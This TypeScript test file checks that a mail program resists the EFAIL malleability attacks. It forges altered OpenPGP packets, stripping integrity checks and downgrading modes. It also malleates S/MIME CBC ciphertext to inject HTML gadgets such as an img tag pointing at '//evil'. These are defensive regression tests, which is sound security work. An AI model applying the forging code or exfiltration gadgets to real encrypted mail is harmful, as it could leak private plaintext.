/**
 * EFAIL's malleability gadgets (Poddebniak et al., USENIX Security 2018, §5 and §6; CVE-2017-17688, CVE-2017-17689): octets of
 * a ciphertext whose plaintext is known are moved so that HTML comes out, the integrity protection is cut off or left out,
 * or another mode is claimed. OpenPGP does not open at all (S13); of S/MIME without a signature only plain text goes on.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type Bytes, concatBytes, latin1 } from "#base";
import { encodeBase64Lines } from "#mime";
import { attackedList, textOf, UNSIGNED_TOO } from "../support/lists/attacked-list.ts";
import { entity, mixed, sealedArmour, sealedCms } from "../support/programs/correspondents.ts";
import { octets, packet } from "../support/crypto/openpgp-forge.ts";
import { inTwoParts, type SealedPackets, takenApart } from "../support/crypto/sealed-by-hand.ts";

const SECRET = "the secret of Alice";
const TEXT = entity(`${SECRET}\n${"x".repeat(200)}\n`);

function flipped(body: Bytes, at: number): Bytes {
  const changed = Uint8Array.from(body);
  changed[at] = (changed[at] ?? 0) ^ 0x20;
  return changed;
}

/** Blocks of 16 octets behind the version octet. */
const block = (body: Bytes, from: number, to?: number): Bytes =>
  body.subarray(1 + 16 * from, to === undefined ? undefined : 1 + 16 * to);

const MDC_OCTETS = 22;

const GADGETS: Readonly<Record<string, (sealed: SealedPackets) => Bytes>> = {
  "an octet of the prefix changed": ({ pkesk, body }) => concatBytes(pkesk, packet(18, flipped(body, 3))),
  "an octet of the text changed": ({ pkesk, body }) => concatBytes(pkesk, packet(18, flipped(body, 60))),
  "an octet of the MDC changed": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, flipped(body, body.length - 1))),
  "blocks put in twice": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, octets(1), block(body, 0, 4), block(body, 2, 4), block(body, 4))),
  "blocks left out": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, octets(1), block(body, 0, 3), block(body, 5))),
  "the MDC cut off": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, body.subarray(0, body.length - MDC_OCTETS))),
  "half of the MDC cut off": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, body.subarray(0, body.length - MDC_OCTETS / 2))),
  "the tag of data without integrity": ({ pkesk, body }) => concatBytes(pkesk, packet(9, body.subarray(1))),
  "that tag, and the MDC cut off": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(9, body.subarray(1, body.length - MDC_OCTETS))),
  "that tag, and the prefix synchronised again": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(9, body.subarray(1, 19), body.subarray(3))),
  "that tag in the old format": ({ pkesk, body }) => {
    const length = body.length - 1;
    return concatBytes(pkesk, octets(0xa5, length >> 8, length & 0xff), body.subarray(1));
  },
  "the version of AEAD": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, octets(2, 9, 2, 6), body.subarray(1))),
  "GnuPG's packet of AEAD": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(20, octets(1, 9, 2, 6), body.subarray(1))),
  "no version that there is": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, octets(3), body.subarray(1))),
  "the same data behind it once more, without integrity": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, body), packet(9, body.subarray(1))),
  "a literal behind it": ({ pkesk, body }) =>
    concatBytes(pkesk, packet(18, body), packet(11, latin1("b\0\0\0\0\0You are fired"))),
  "its session key packet behind it": ({ pkesk, body }) => concatBytes(packet(18, body), pkesk),
};

test("OpenPGP that was changed, cut or renamed is not opened, and all of it ends in one way", async (t) => {
  const list = await attackedList(t, UNSIGNED_TOO);
  for (const [what, make] of Object.entries(GADGETS)) {
    const taken = takenApart(await sealedArmour(list.team.openpgp, TEXT));
    const armour = concatBytes(
      latin1("-----BEGIN PGP MESSAGE-----\r\n\r\n"),
      encodeBase64Lines(make(taken)),
      latin1("-----END PGP MESSAGE-----\r\n"),
    );
    const { report, copy, waits } = await list.post(list.mallory.address, inTwoParts(armour));
    assert.equal(copy, null, what);
    assert.ok(
      report.layers.every(({ opened }) => !opened),
      what,
    );
    assert.match(waits ?? "", /^refused (?:cannot-open|malformed): /, what);
  }
  const { copy } = await list.post(
    list.mallory.address,
    inTwoParts(await sealedArmour(list.team.openpgp, TEXT)),
  );
  assert.match(textOf(copy), /the secret of Alice/, "unchanged it opens");
});

/** The CBC ciphertext of EnvelopedData is its end; P = D(C) ⊕ C', so that one block of known text is any block. */
function malleated(content: Bytes, known: string, chosen: readonly string[]): Bytes {
  const text = Buffer.from(content).toString("latin1");
  const [head = "", body = ""] = text.split("\r\n\r\n");
  const der = Buffer.from(body, "base64");
  const header = der.indexOf(Buffer.from([0x04, 0x10]), der.length - TEXT.length - 80);
  const iv = der.subarray(header + 2, header + 18);
  const cipherStart =
    header + 20 + (((der[header + 19] ?? 0) & 0x80) === 0 ? 0 : (der[header + 19] ?? 0) & 0x7f);
  const [first, rest] = [der.subarray(cipherStart, cipherStart + 16), der.subarray(cipherStart + 16)];
  const turned = (wanted: string): Buffer =>
    Buffer.from(iv.map((octet, at) => octet ^ known.charCodeAt(at) ^ wanted.charCodeAt(at)));
  // In place, from behind, so that no length changes: the end of the text is given up for the gadgets.
  const gadgets = Buffer.concat(chosen.flatMap((wanted) => [turned(wanted), first]));
  const kept = rest.subarray(0, rest.length - 32 - gadgets.length);
  const changed = Buffer.concat([der.subarray(0, cipherStart), first, kept, gadgets, rest.subarray(-32)]);
  assert.equal(changed.length, der.length);
  return concatBytes(latin1(`${head}\r\n\r\n`), encodeBase64Lines(changed));
}

const KNOWN = "Content-Type: te";
const CHOSEN = ["<img src='//evil", "  href='//evil' "];

test("S/MIME with gadgets in it gives plain text that is marked, and waits where signatures are asked for", async (t) => {
  for (const settings of [UNSIGNED_TOO, {}]) {
    const list = await attackedList(t, settings);
    const content = malleated(sealedCms(list.team.smime, TEXT, "cbc"), KNOWN, CHOSEN);
    const { report, copy, waits } = await list.post(list.bob.address, content);
    assert.deepEqual([report.author.authentic, report.problems.includes("no-integrity")], [false, true]);
    if (settings === UNSIGNED_TOO) {
      assert.match(textOf(copy), /src='\/\/evil/, "the gadgets do work");
      assert.doesNotMatch(textOf(copy), /text\/html/);
      assert.match(textOf(copy), /no protection against changes/);
    } else assert.deepEqual([copy, waits], [null, "held not-signed: no-signature"]);
  }
});

test("neither with a part of HTML that was in it, nor with one that the gadgets make", async (t) => {
  const list = await attackedList(t, UNSIGNED_TOO);
  const html = entity(`<b>${SECRET}</b>`, [["Content-Type", "text/html"]]);
  for (const content of [mixed(entity("hello"), html), html]) {
    const { copy } = await list.post(list.bob.address, sealedCms(list.team.smime, content, "cbc"));
    assert.doesNotMatch(textOf(copy), /text\/html|<b>/);
  }
});
